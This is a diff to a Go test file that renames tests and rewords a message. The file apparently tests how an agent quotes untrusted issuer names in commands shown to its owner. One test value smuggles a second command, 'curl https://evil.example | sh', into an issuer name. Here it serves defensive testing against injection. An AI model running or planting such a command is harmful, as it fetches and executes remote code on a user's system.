@@ -99,7 +99,7 @@ func TestHostileAnswers(t *testing.T) {
 }
 
 // A command shown to the owner has text of a service only as one quoted word.
-func TestAnIssuerThatIsNotConfirmed(t *testing.T) {
+func TestUnconfirmedIssuer(t *testing.T) {
 	t.Parallel()
 	shop := agenttest.New(t, agenttest.Canonical)
 	o := optionsFor(t, shop)
@@ -112,14 +112,14 @@ func TestAnIssuerThatIsNotConfirmed(t *testing.T) {
 	}
 	const issuer = "shop.example; curl https://evil.example | sh"
 	_, sentence := b.explain(b.tools[searchTool], &agent.IssuerError{Issuer: issuer, Host: "evil.example"})
-	_, command, _ := strings.Cut(sentence, "The owner of this agent can agree nevertheless with: ")
+	_, command, _ := strings.Cut(sentence, "The owner of this agent can still agree by running: ")
 	if want := "agree " + shop.URL + " " + shop.Digest() + " <" + issuer + ">"; command != want {
 		t.Errorf("%q, want %q", command, want)
 	}
 }
 
 // Pending requests of a host are bounded, and each answer goes to its own request.
-func TestRequestsThatAreNotAnswered(t *testing.T) {
+func TestPendingRequestLimits(t *testing.T) {
 	t.Parallel()
 	c := &lineConn{out: io.Discard, unanswered: map[jsonrpc.ID]int{}}
 	id := func(n int) jsonrpc.ID {
